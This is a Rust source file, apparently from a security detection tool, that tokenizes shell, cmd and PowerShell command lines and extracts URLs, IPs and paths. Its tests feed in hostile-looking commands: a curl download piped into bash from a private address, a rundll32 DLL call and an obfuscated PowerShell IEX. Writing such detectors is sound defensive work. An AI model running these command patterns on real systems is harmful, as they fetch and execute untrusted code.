//! Shell-aware tokenizing: the commands of a text (executable and arguments), how they are
//! chained (pipes, `&&`, `;`), redirections, and the indicators in it — URLs, IP addresses
//! and paths. One tokenizer serves the three shells; what differs (quote and escape
//! characters, separators, the words that only prefix a command) is chosen by [`Shell`].

use std::net::Ipv4Addr;
use std::sync::LazyLock;

use regex::Regex;
use serde::Serialize;

use crate::Shell;

/// Most commands and indicators kept for one text (the rest are counted, not listed).
const MAX_ITEMS: usize = 256;

/// One simple command.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Command {
    /// The program: lower-case base name, extension (`.exe`, `.cmd`…) removed.
    pub exe: String,
    pub args: Vec<String>,
}

/// What the tokenizer found.
#[derive(Debug, Clone, Default, Serialize)]
pub struct Tokens {
    pub commands: Vec<Command>,
    pub pipes: usize,
    /// Redirection targets (`> file`, `>> file`, `2> file`).
    pub redirections: Vec<String>,
    pub urls: Vec<String>,
    pub ips: Vec<String>,
    pub paths: Vec<String>,
}

impl Tokens {
    /// The executables, in order.
    pub fn executables(&self) -> impl Iterator<Item = &str> {
        self.commands.iter().map(|c| c.exe.as_str())
    }
}

/// Words that run the command after them rather than being the program themselves.
const PREFIXES: &[&str] = &[
    "sudo", "doas", "env", "nohup", "exec", "time", "nice", "ionice", "timeout", "stdbuf", "call",
    "start", "command", "builtin", "xargs", "watch", "strace", "chroot", "unbuffer", "busybox",
];

/// Flags of the prefix words that take a value (`sudo -u root`, `nice -n 5`, `timeout -s KILL`).
const VALUE_FLAGS: &[&str] = &[
    "-u", "-g", "-p", "-C", "-D", "-h", "-U", "-r", "-t", "-T", "-n", "-c", "-s", "-k", "-P", "-I",
    "-L", "-d",
];

/// Splits `text` into commands and collects its indicators.
pub fn tokenize(text: &str, shell: Shell) -> Tokens {
    let mut lx = Lexer {
        out: Tokens::default(),
        words: Vec::new(),
        cur: String::new(),
        in_word: false,
        redirect_next: false,
        shell,
    };
    let escape = match shell {
        Shell::Powershell => '`',
        Shell::Cmd => '^',
        Shell::Sh | Shell::Bash => '\\',
    };
    let mut quote: Option<char> = None;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if let Some(q) = quote {
            if c == q {
                quote = None;
            } else if c == escape && q == '"' && shell != Shell::Cmd {
                lx.cur.extend(chars.next());
            } else {
                lx.cur.push(c);
            }
            continue;
        }
        match c {
            '\'' if shell != Shell::Cmd => {
                quote = Some('\'');
                lx.in_word = true;
            }
            '"' => {
                quote = Some('"');
                lx.in_word = true;
            }
            c if c == escape => {
                if let Some(n) = chars.next()
                    && n != '\n'
                {
                    lx.cur.push(n);
                    lx.in_word = true;
                }
            }
            ' ' | '\t' | '\r' => lx.end_word(),
            '(' | ')' if shell == Shell::Powershell => lx.end_word(),
            '\n' | ';' | '&' | '|' | '(' | ')' | '{' | '}' => lx.separator(c, &mut chars),
            '>' | '<' => lx.redirection(c, &mut chars),
            c => {
                lx.cur.push(c);
                lx.in_word = true;
            }
        }
    }
    lx.end_word();
    lx.end_command();
    let mut out = lx.out;
    indicators(text, &mut out);
    out
}

/// The tokenizer's state between characters.
struct Lexer {
    out: Tokens,
    words: Vec<String>,
    cur: String,
    in_word: bool,
    redirect_next: bool,
    shell: Shell,
}

type Chars<'a> = std::iter::Peekable<std::str::Chars<'a>>;

impl Lexer {
    fn end_word(&mut self) {
        if !self.in_word {
            return;
        }
        let w = std::mem::take(&mut self.cur);
        self.in_word = false;
        if self.redirect_next {
            self.redirect_next = false;
            if self.out.redirections.len() < MAX_ITEMS {
                self.out.redirections.push(w);
            }
            return;
        }
        if self.words.len() < 4096 {
            self.words.push(w);
        }
    }

    /// `|`, `||`, `&`, `&&`, `;`, a newline or a bracket: the command ends.
    fn separator(&mut self, c: char, chars: &mut Chars<'_>) {
        self.end_word();
        if c == '|' {
            if chars.peek() == Some(&'|') {
                chars.next();
            } else {
                self.out.pipes += 1;
            }
        }
        if c == '&' && chars.peek() == Some(&'&') {
            chars.next();
        }
        self.end_command();
    }

    /// `>`, `>>`, `2>`, `<`: the next word is a file, unless it is a descriptor (`2>&1`).
    fn redirection(&mut self, c: char, chars: &mut Chars<'_>) {
        if !self.cur.is_empty() && self.cur.chars().all(|d| d.is_ascii_digit()) {
            self.cur.clear();
            self.in_word = false;
        }
        self.end_word();
        while matches!(chars.peek(), Some('>' | '<')) {
            chars.next();
        }
        if chars.peek() == Some(&'&') {
            chars.next();
            while chars
                .peek()
                .is_some_and(|d| d.is_ascii_digit() || *d == '-')
            {
                chars.next();
            }
            return;
        }
        self.redirect_next = c == '>';
    }

    fn end_command(&mut self) {
        end_command(&mut self.words, &mut self.out, self.shell);
    }
}

fn end_command(words: &mut Vec<String>, out: &mut Tokens, shell: Shell) {
    let mut ws = std::mem::take(words);
    let mut i = 0;
    // Skip `VAR=value` assignments and prefix words with their flags.
    while let Some(w) = ws.get(i) {
        let assignment = shell != Shell::Cmd
            && w.contains('=')
            && !w.starts_with(['-', '/', '$'])
            && !w.contains('/');
        let stem = program_stem(w);
        if assignment {
            i += 1;
        } else if PREFIXES.iter().any(|p| p.eq_ignore_ascii_case(stem)) && ws.len() > i + 1 {
            i += 1;
            while let Some(f) = ws.get(i).filter(|f| f.starts_with('-') && f.len() < 16) {
                i += if VALUE_FLAGS.contains(&f.as_str()) {
                    2
                } else {
                    1
                };
            }
            // `timeout 10 cmd`, `nice 5 cmd`: a duration or a priority before the command.
            if ws
                .get(i)
                .is_some_and(|w| w.trim_end_matches(['s', 'm', 'h']).parse::<f64>().is_ok())
                && ws.len() > i + 1
            {
                i += 1;
            }
        } else {
            break;
        }
    }
    if i >= ws.len() || out.commands.len() >= MAX_ITEMS {
        return;
    }
    // The words after the program are its arguments, moved rather than copied.
    let args = ws.split_off(i + 1);
    let exe = program_stem(&ws[i]).to_ascii_lowercase();
    out.commands.push(Command { exe, args });
    // The list keeps its room for the next command's words.
    ws.clear();
    *words = ws;
}

/// A program's base name without the Windows extensions, lower-cased.
pub fn program_name(word: &str) -> String {
    program_stem(word).to_ascii_lowercase()
}

/// A program's base name without the Windows extensions (`C:\x\Tool.EXE` → `Tool`), as
/// written: a slice of `word`, so that checking a word allocates nothing.
fn program_stem(word: &str) -> &str {
    let base = word.rsplit(['/', '\\']).next().unwrap_or(word);
    let base = base.trim_matches(|c: char| c == '"' || c == '\'');
    for ext in [
        ".exe", ".com", ".bat", ".cmd", ".ps1", ".vbs", ".js", ".wsf", ".msc", ".cpl", ".dll",
    ] {
        if let Some(stem) = strip_suffix_ignore_case(base, ext)
            && !stem.is_empty()
        {
            return stem;
        }
    }
    base
}

/// `text` without `suffix` (ASCII, any case) at its end.
fn strip_suffix_ignore_case<'a>(text: &'a str, suffix: &str) -> Option<&'a str> {
    let cut = text.len().checked_sub(suffix.len())?;
    let tail = text.get(cut..)?;
    tail.eq_ignore_ascii_case(suffix).then(|| &text[..cut])
}

static URL: LazyLock<Regex> = LazyLock::new(|| {
    crate::re::fixed(r#"(?i)\b(?:https?|ftps?|tftp|smb|ldaps?|wss?|file)://[^\s'"<>|;`)\]]+"#)
});
static IPV4: LazyLock<Regex> = LazyLock::new(|| crate::re::fixed(r"\b(?:\d{1,3}\.){3}\d{1,3}\b"));
static PATH: LazyLock<Regex> = LazyLock::new(|| {
    crate::re::fixed(
        r#"(?i)(?:\b[a-z]:\\[^\s'"|;<>]*|\\\\[\w.$-]+\\[^\s'"|;<>]*|(?:^|[\s'"=])(?:~|\$home)?/(?:etc|tmp|var|dev|proc|root|home|usr|bin|sbin|opt|lib|boot|sys|library|users|system|private|applications|\.ssh|\.config)(?:/[^\s'"|;<>&)]*)?)"#,
    )
});

fn indicators(text: &str, out: &mut Tokens) {
    for m in URL.find_iter(text).take(MAX_ITEMS) {
        push_unique(&mut out.urls, m.as_str().trim_end_matches(['.', ',']));
    }
    for m in IPV4.find_iter(text).take(MAX_ITEMS) {
        if m.as_str().parse::<Ipv4Addr>().is_ok() {
            push_unique(&mut out.ips, m.as_str());
        }
    }
    for m in PATH.find_iter(text).take(MAX_ITEMS) {
        let p = m
            .as_str()
            .trim_start_matches([' ', '\t', '\n', '\'', '"', '=']);
        push_unique(&mut out.paths, p);
    }
}

fn push_unique(list: &mut Vec<String>, item: &str) {
    if list.len() < MAX_ITEMS && !list.iter().any(|x| x == item) {
        list.push(item.to_string());
    }
}

/// Whether an IPv4 address is on the internet (not private, loopback, link-local, …).
pub fn is_public_ipv4(ip: &str) -> bool {
    ip.parse::<Ipv4Addr>().is_ok_and(|a| {
        !(a.is_private()
            || a.is_loopback()
            || a.is_link_local()
            || a.is_unspecified()
            || a.is_broadcast()
            || a.is_documentation()
            || a.octets()[0] >= 224)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sh_commands_pipes_and_redirections() {
        let t = tokenize(
            "sudo -u root env X=1 curl -s http://10.0.0.5/a.sh | bash > /tmp/out 2>&1; id",
            Shell::Sh,
        );
        let exes: Vec<&str> = t.executables().collect();
        assert_eq!(exes, ["curl", "bash", "id"]);
        assert_eq!(t.pipes, 1);
        assert_eq!(t.redirections, ["/tmp/out"]);
        assert_eq!(t.urls, ["http://10.0.0.5/a.sh"]);
        assert_eq!(t.ips, ["10.0.0.5"]);
        assert!(t.paths.contains(&"/tmp/out".to_string()));
    }

    #[test]
    fn cmd_and_powershell_quoting() {
        let t = tokenize(
            r#"C:\Windows\System32\cmd.exe /c "echo a&b" & Rundll32.EXE x.dll,Run"#,
            Shell::Cmd,
        );
        let exes: Vec<&str> = t.executables().collect();
        assert_eq!(exes, ["cmd", "rundll32"]);
        assert_eq!(t.commands[0].args, ["/c", "echo a&b"]);
        let t = tokenize(
            "Get-Process | Where-Object { $_.Name -eq 'x' }; I`EX 'a'",
            Shell::Powershell,
        );
        let exes: Vec<&str> = t.executables().collect();
        assert_eq!(exes, ["get-process", "where-object", "$_.name", "iex"]);
    }

    #[test]
    fn prefix_words_in_any_case_are_skipped_and_each_command_keeps_its_own_arguments() {
        let t = tokenize(
            "Sudo nice -n 5 TIMEOUT 10s /bin/Tar -czf /tmp/a.tgz /home; ls -la\nENV.EXE X=1 id",
            Shell::Sh,
        );
        let exes: Vec<&str> = t.executables().collect();
        assert_eq!(exes, ["tar", "ls", "id"]);
        assert_eq!(t.commands[0].args, ["-czf", "/tmp/a.tgz", "/home"]);
        assert_eq!(t.commands[1].args, ["-la"]);
        assert!(t.commands[2].args.is_empty());
        assert_eq!(program_name(r"C:\Tools\PsExec64.EXE"), "psexec64");
        assert_eq!(program_name(".exe"), ".exe");
    }

    #[test]
    fn public_addresses() {
        assert!(is_public_ipv4("8.8.8.8"));
        assert!(!is_public_ipv4("10.10.10.10"));
        assert!(!is_public_ipv4("192.0.2.1"));
        assert!(!is_public_ipv4("999.1.1.1"));
    }
}
